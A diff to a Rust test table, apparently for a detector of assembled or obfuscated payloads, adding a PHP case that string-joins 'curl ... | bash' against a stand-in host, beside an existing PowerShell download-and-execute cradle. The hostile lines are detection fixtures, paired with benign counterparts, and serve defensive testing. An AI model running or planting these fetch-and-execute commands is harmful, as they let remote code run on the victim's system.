@@ -3146,6 +3146,13 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "set p1=power\nset p2=shell\nset m=Down\nset m=%m%loadString\n%p1%%p2% -c \"$w=New-Object Net.WebClient;$s=$w.('%m%')('https://x.example.net/e.ps1');&([scriptblock]::Create($s))\"",
         "set p1=power\nset p2=shell\nset m=Get\nset m=%m%-Date\n%p1%%p2% -c \"$d=%m%;Write-Output ('built ' + $d.ToString())\"",
     ),
+    // PHP's `.` with no space: `'cu'.'rl'` joins as `'cu' . 'rl'` does.
+    (
+        "assembled-payload",
+        "scripts/x.php",
+        "<?php\nsystem('cu'.'rl -s https://x.example.net/i | ba'.'sh');",
+        "<?php\necho 'cu'.'rl -s https://x.example.net/i is how the docs fetch it';",
+    ),
 ];
 
 #[test]
